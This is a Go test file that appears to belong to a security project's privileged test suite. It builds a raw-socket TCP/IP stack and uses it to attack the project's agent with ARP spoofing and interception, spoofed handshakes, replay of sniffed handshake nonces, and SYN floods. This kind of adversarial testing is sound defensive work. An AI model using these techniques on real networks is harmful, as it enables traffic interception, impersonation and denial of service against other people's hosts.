// SPDX-License-Identifier: Apache-2.0

//go:build linux && privileged

package attacks

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"os"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"github.com/latchkey-dev/latchkey/test/testnode"
)

// A TCP/IP stack in user space, as small as the attacks need: it runs on a
// packet socket (CAP_NET_RAW), so none of the kernel's connect hooks does.

type hardware = [6]byte

// wire is a packet socket on one link.
type wire struct {
	fd    int
	index int
	mac   hardware
}

func openWire(link string) (*wire, error) {
	ifi, err := net.InterfaceByName(link)
	if err != nil {
		return nil, err
	}
	all := uint16(unix.ETH_P_ALL)
	proto := all<<8 | all>>8
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(proto))
	if err != nil {
		return nil, os.NewSyscallError("packet socket", err)
	}
	w := &wire{fd: fd, index: ifi.Index}
	copy(w.mac[:], ifi.HardwareAddr)
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: proto, Ifindex: ifi.Index}); err != nil {
		unix.Close(fd)
		return nil, os.NewSyscallError("bind", err)
	}
	return w, nil
}

func (w *wire) close() { unix.Close(w.fd) }

func (w *wire) send(dst hardware, etherType uint16, payload []byte) error {
	frame := make([]byte, 14, 14+len(payload))
	copy(frame, dst[:])
	copy(frame[6:], w.mac[:])
	binary.BigEndian.PutUint16(frame[12:], etherType)
	err := unix.Sendto(w.fd, append(frame, payload...), 0, &unix.SockaddrLinklayer{Ifindex: w.index})
	return os.NewSyscallError("sendto", err)
}

// recv gives the next frame that came in; an error that is ETIMEDOUT if none
// did before the deadline.
func (w *wire) recv(deadline time.Time) (etherType uint16, payload []byte, err error) {
	buf := make([]byte, 1<<16)
	for {
		left := time.Until(deadline)
		if left <= 0 {
			return 0, nil, unix.ETIMEDOUT
		}
		tv := unix.NsecToTimeval(int64(left))
		if err := unix.SetsockoptTimeval(w.fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
			return 0, nil, err
		}
		n, from, err := unix.Recvfrom(w.fd, buf, 0)
		if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return 0, nil, err
		}
		if ll, ok := from.(*unix.SockaddrLinklayer); n < 14 || ok && ll.Pkttype == unix.PACKET_OUTGOING {
			continue
		}
		return binary.BigEndian.Uint16(buf[12:]), buf[14:n], nil
	}
}

var broadcast = hardware{255, 255, 255, 255, 255, 255}

// arp sends one message of the address resolution protocol (RFC 826).
func (w *wire) arp(to hardware, op uint16, ownMAC hardware, own netip.Addr, askedMAC hardware, asked netip.Addr) error {
	p := []byte{0, 1, 8, 0, 6, 4}
	p = binary.BigEndian.AppendUint16(p, op)
	p = append(p, ownMAC[:]...)
	p = append(p, own.AsSlice()...)
	p = append(p, askedMAC[:]...)
	p = append(p, asked.AsSlice()...)
	return w.send(to, unix.ETH_P_ARP, p)
}

// announce tells one host that an address is at a MAC: a gratuitous request,
// which replaces what the host knew.
func (w *wire) announce(to hardware, address netip.Addr, at hardware) error {
	return w.arp(to, 1, at, address, hardware{}, address)
}

// resolve asks for an address's MAC, in the name of another address.
func (w *wire) resolve(address, own netip.Addr) (hardware, error) {
	for giveUp := time.Now().Add(patience); time.Now().Before(giveUp); {
		if err := w.arp(broadcast, 1, w.mac, own, hardware{}, address); err != nil {
			return hardware{}, err
		}
		for deadline := time.Now().Add(300 * time.Millisecond); ; {
			et, p, err := w.recv(deadline)
			if err != nil {
				break
			}
			if et == unix.ETH_P_ARP && len(p) >= 28 && p[7] == 2 && bytes.Equal(p[14:18], address.AsSlice()) {
				return hardware(p[8:14]), nil
			}
		}
	}
	return hardware{}, fmt.Errorf("nobody has %s: %w", address, unix.EHOSTUNREACH)
}

// segment is a TCP segment of IPv4.
type segment struct {
	src, dst netip.AddrPort
	seq, ack uint32
	flags    byte
	options  []byte
	data     []byte
}

const (
	flagFIN = 1
	flagSYN = 2
	flagRST = 4
	flagPSH = 8
	flagACK = 16
)

func checksum(sum uint32, b []byte) uint32 {
	for ; len(b) > 1; b = b[2:] {
		sum += uint32(b[0])<<8 | uint32(b[1])
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	return sum
}

func fold(sum uint32) uint16 {
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// packet is the segment in its IPv4 packet.
func (s *segment) packet() []byte {
	be := binary.BigEndian
	for len(s.options)%4 != 0 {
		s.options = append(s.options, 1)
	}
	tcp := make([]byte, 20, 20+len(s.options)+len(s.data))
	be.PutUint16(tcp, s.src.Port())
	be.PutUint16(tcp[2:], s.dst.Port())
	be.PutUint32(tcp[4:], s.seq)
	be.PutUint32(tcp[8:], s.ack)
	tcp[12] = byte(20+len(s.options)) / 4 << 4
	tcp[13] = s.flags
	be.PutUint16(tcp[14:], 65535)
	tcp = append(append(tcp, s.options...), s.data...)
	src, dst := s.src.Addr().AsSlice(), s.dst.Addr().AsSlice()
	sum := checksum(checksum(checksum(uint32(unix.IPPROTO_TCP)+uint32(len(tcp)), src), dst), tcp)
	be.PutUint16(tcp[16:], fold(sum))

	ip := make([]byte, 20, 20+len(tcp))
	ip[0], ip[8], ip[9] = 0x45, 64, unix.IPPROTO_TCP
	be.PutUint16(ip[2:], uint16(20+len(tcp)))
	copy(ip[12:], src)
	copy(ip[16:], dst)
	be.PutUint16(ip[10:], fold(checksum(0, ip)))
	return append(ip, tcp...)
}

func parseSegment(p []byte) (s segment, ok bool) {
	be := binary.BigEndian
	if len(p) < 20 || p[0]>>4 != 4 || p[9] != unix.IPPROTO_TCP {
		return s, false
	}
	head, total := int(p[0]&15)*4, int(be.Uint16(p[2:]))
	if total == 0 { // larger than 64 KiB by offload
		total = len(p)
	}
	if head < 20 || total > len(p) || total < head+20 {
		return s, false
	}
	tcp := p[head:total]
	off := int(tcp[12]>>4) * 4
	if off < 20 || off > len(tcp) {
		return s, false
	}
	return segment{
		src: netip.AddrPortFrom(netip.AddrFrom4([4]byte(p[12:16])), be.Uint16(tcp)),
		dst: netip.AddrPortFrom(netip.AddrFrom4([4]byte(p[16:20])), be.Uint16(tcp[2:])),
		seq: be.Uint32(tcp[4:]), ack: be.Uint32(tcp[8:]), flags: tcp[13],
		options: bytes.Clone(tcp[20:off]), data: bytes.Clone(tcp[off:]),
	}, true
}

// nonceOption is the option that the agent's programs write.
func nonceOption(nonce []byte) []byte {
	if len(nonce) == 0 {
		return nil
	}
	return append([]byte{254, 12, 0x4c, 0x4b}, nonce...)
}

// findNonce reads it.
func findNonce(opts []byte) []byte {
	for len(opts) > 1 && opts[0] != 0 {
		if opts[0] == 1 {
			opts = opts[1:]
			continue
		}
		n := int(opts[1])
		if n < 2 || n > len(opts) {
			return nil
		}
		if opts[0] == 254 && n == 12 && opts[2] == 0x4c && opts[3] == 0x4b {
			return bytes.Clone(opts[4:12])
		}
		opts = opts[n:]
	}
	return nil
}

// handMadeArgs is a connection that no kernel opens.
type handMadeArgs struct {
	Link string
	// Src is whose address to use. Packets to it come here: the stack answers
	// address resolution for it, and takes it over if Poison.
	Src     netip.AddrPort
	Gateway netip.Addr
	Poison  bool
	Nonce   []byte
	Token   string
	// Loopback: the other end is this very host, over lo.
	Loopback bool
	// HandshakeOnly: do not ask.
	HandshakeOnly bool
}

// handMade makes a handshake and a request out of packets.
func handMade(_ *testnode.Session, o handMadeArgs) (any, error) {
	w, err := openWire(o.Link)
	if err != nil {
		return nil, err
	}
	defer w.close()
	c, err := w.handMade(o)
	if err != nil {
		return netError(err)
	}
	return c, nil
}

func (w *wire) handMade(o handMadeArgs) (catch, error) {
	var gateway hardware
	if !o.Loopback {
		var err error
		if gateway, err = w.resolve(o.Gateway, o.Src.Addr()); err != nil {
			return catch{}, err
		}
	}
	seq, ack := rand.Uint32(), uint32(0)
	send := func(flags byte, options, data []byte) error {
		s := segment{src: o.Src, dst: agent4, seq: seq, ack: ack, flags: flags, options: options, data: data}
		return w.send(gateway, unix.ETH_P_IP, s.packet())
	}
	poison := func() error {
		if !o.Poison {
			return nil
		}
		return w.announce(gateway, o.Src.Addr(), w.mac)
	}
	// next gives the next segment of this connection.
	next := func(deadline time.Time) (segment, error) {
		for {
			et, p, err := w.recv(deadline)
			if err != nil {
				return segment{}, err
			}
			if et == unix.ETH_P_ARP && len(p) >= 28 && p[7] == 1 && bytes.Equal(p[24:28], o.Src.Addr().AsSlice()) {
				if err := w.arp(hardware(p[8:14]), 2, w.mac, o.Src.Addr(), hardware(p[8:14]), netip.AddrFrom4([4]byte(p[14:18]))); err != nil {
					return segment{}, err
				}
				continue
			}
			s, ok := parseSegment(p)
			if et != unix.ETH_P_IP || !ok || s.src != agent4 || s.dst != o.Src {
				continue
			}
			if s.flags&flagRST != 0 {
				return s, unix.ECONNRESET
			}
			return s, nil
		}
	}
	nonce := nonceOption(o.Nonce)
	established := false
	for giveUp := time.Now().Add(patience); !established && time.Now().Before(giveUp); {
		if err := poison(); err != nil {
			return catch{}, err
		}
		if err := send(flagSYN, append([]byte{2, 4, 5, 0xb4}, nonce...), nil); err != nil {
			return catch{}, err
		}
		for deadline := time.Now().Add(400 * time.Millisecond); !established; {
			s, err := next(deadline)
			if errors.Is(err, unix.ETIMEDOUT) {
				break
			}
			if err != nil {
				return catch{}, err
			}
			if s.flags&(flagSYN|flagACK) == flagSYN|flagACK && s.ack == seq+1 {
				seq, ack, established = seq+1, s.seq+1, true
			}
		}
	}
	if !established {
		return catch{}, unix.ETIMEDOUT
	}
	if err := send(flagACK, nonce, nil); err != nil {
		return catch{}, err
	}
	if o.HandshakeOnly {
		return catch{}, nil
	}
	for req := request(agent4, o.Token); len(req) > 0; {
		n := min(len(req), 1000)
		if err := send(flagACK|flagPSH, nonce, req[:n]); err != nil {
			return catch{}, err
		}
		req, seq = req[n:], seq+uint32(n)
	}
	var got bytes.Buffer
	for deadline := time.Now().Add(patience); ; {
		s, err := next(deadline)
		if err != nil {
			return catch{}, err
		}
		if s.seq != ack || len(s.data) == 0 && s.flags&flagFIN == 0 {
			continue
		}
		got.Write(s.data)
		ack += uint32(len(s.data))
		if s.flags&flagFIN != 0 {
			ack++
		}
		if err := send(flagACK, nil, nil); err != nil {
			return catch{}, err
		}
		if c, err := response(bytes.NewReader(got.Bytes())); err == nil {
			// The port may be used again.
			return c, send(flagRST|flagACK, nil, nil)
		}
		if s.flags&flagFIN != 0 {
			return catch{}, unix.ECONNRESET
		}
	}
}

// A way between victim and gateway that leads by here.
type interceptArgs struct {
	Link                 string
	Own, Victim, Gateway netip.Addr
}

type interception struct {
	w               *wire
	o               interceptArgs
	victim, gateway hardware
}

// intercept makes the victim believe that the gateway is here.
func intercept(s *testnode.Session, o interceptArgs) (any, error) {
	w, err := openWire(o.Link)
	if err != nil {
		return nil, err
	}
	i := &interception{w: w, o: o}
	if i.victim, err = w.resolve(o.Victim, o.Own); err != nil {
		return nil, err
	}
	if i.gateway, err = w.resolve(o.Gateway, o.Own); err != nil {
		return nil, err
	}
	s.Values["interception"] = i
	return nil, w.announce(i.victim, o.Gateway, w.mac)
}

// handshakeSeen is what a SYN to the agent gives away.
type handshakeSeen struct {
	Src   netip.AddrPort
	Nonce []byte
}

// seeHandshake waits for a SYN to the agent from an address, the answers of
// which the kernel has no part in.
func (w *wire) seeHandshake(from netip.Addr) (handshakeSeen, error) {
	deadline := time.Now().Add(patience)
	for {
		et, p, err := w.recv(deadline)
		if err != nil {
			return handshakeSeen{}, fmt.Errorf("no SYN of %s: %w", from, err)
		}
		s, ok := parseSegment(p)
		if et != unix.ETH_P_IP || !ok || s.flags&(flagSYN|flagACK) != flagSYN || s.dst != agent4 || s.src.Addr() != from {
			continue
		}
		if nonce := findNonce(s.options); nonce != nil {
			return handshakeSeen{s.src, nonce}, nil
		}
	}
}

// intercepted waits for the victim's SYN and keeps it.
func intercepted(s *testnode.Session, _ struct{}) (any, error) {
	i, ok := s.Values["interception"].(*interception)
	if !ok {
		return nil, errors.New("nothing is intercepted")
	}
	return i.w.seeHandshake(i.o.Victim)
}

// giveBack tells the victim where the gateway really is.
func giveBack(s *testnode.Session, _ struct{}) (any, error) {
	i, ok := s.Values["interception"].(*interception)
	if !ok {
		return nil, errors.New("nothing is intercepted")
	}
	defer i.w.close()
	if err := i.w.announce(i.gateway, i.o.Victim, i.victim); err != nil {
		return nil, err
	}
	return nil, i.w.announce(i.victim, i.o.Gateway, i.gateway)
}

type claimArgs struct {
	Link             string
	Address, Gateway netip.Addr
}

// claim tells the gateway that an address is here.
func claim(_ *testnode.Session, o claimArgs) (any, error) {
	w, err := openWire(o.Link)
	if err != nil {
		return nil, err
	}
	defer w.close()
	gateway, err := w.resolve(o.Gateway, o.Address)
	if err != nil {
		return nil, err
	}
	return nil, w.announce(gateway, o.Address, w.mac)
}

// sniff listens on a link; sniffed tells what it heard.
func sniff(s *testnode.Session, link string) (any, error) {
	w, err := openWire(link)
	if err != nil {
		return nil, err
	}
	s.Values["sniffer"] = w
	return nil, nil
}

func sniffed(s *testnode.Session, from netip.Addr) (any, error) {
	w, ok := s.Values["sniffer"].(*wire)
	if !ok {
		return nil, errors.New("nobody listens")
	}
	defer w.close()
	return w.seeHandshake(from)
}

type floodArgs struct {
	Link         string
	Own, Gateway netip.Addr
	N            int
}

// flood sends SYNs from addresses of the pod network that nobody has.
func flood(_ *testnode.Session, o floodArgs) (any, error) {
	w, err := openWire(o.Link)
	if err != nil {
		return nil, err
	}
	defer w.close()
	gateway, err := w.resolve(o.Gateway, o.Own)
	if err != nil {
		return nil, err
	}
	b := o.Own.As4()
	sent := 0
	for i := range o.N {
		b[3] = byte(240 + i%14)
		s := segment{
			src: netip.AddrPortFrom(netip.AddrFrom4(b), uint16(1024+rand.IntN(64000))), dst: agent4,
			seq: rand.Uint32(), flags: flagSYN, options: []byte{2, 4, 5, 0xb4},
		}
		err := w.send(gateway, unix.ETH_P_IP, s.packet())
		var errno syscall.Errno
		switch {
		case err == nil:
			sent++
		case errors.As(err, &errno) && errno == unix.ENOBUFS:
		default:
			return sent, err
		}
	}
	return sent, nil
}

// useUp plays a handshake of somebody else's, nonce and all, to a listener of
// this process's own on the agent's address. It tells whether it was accepted.
func useUp(_ *testnode.Session, seen handshakeSeen) (any, error) {
	lc := net.ListenConfig{}
	lc.SetMultipathTCP(false)
	l, err := lc.Listen(context.Background(), "tcp4", agent4.String())
	if err != nil {
		return nil, err
	}
	defer l.Close()
	w, err := openWire("lo")
	if err != nil {
		return nil, err
	}
	defer w.close()
	if _, err := w.handMade(handMadeArgs{Src: seen.Src, Nonce: seen.Nonce, Loopback: true, HandshakeOnly: true}); err != nil {
		return nil, fmt.Errorf("handshake over lo: %w", err)
	}
	if err := l.(*net.TCPListener).SetDeadline(time.Now().Add(patience)); err != nil {
		return nil, err
	}
	c, err := l.Accept()
	if err != nil {
		return nil, err
	}
	defer c.Close()
	return c.RemoteAddr().String() == seen.Src.String(), nil
}
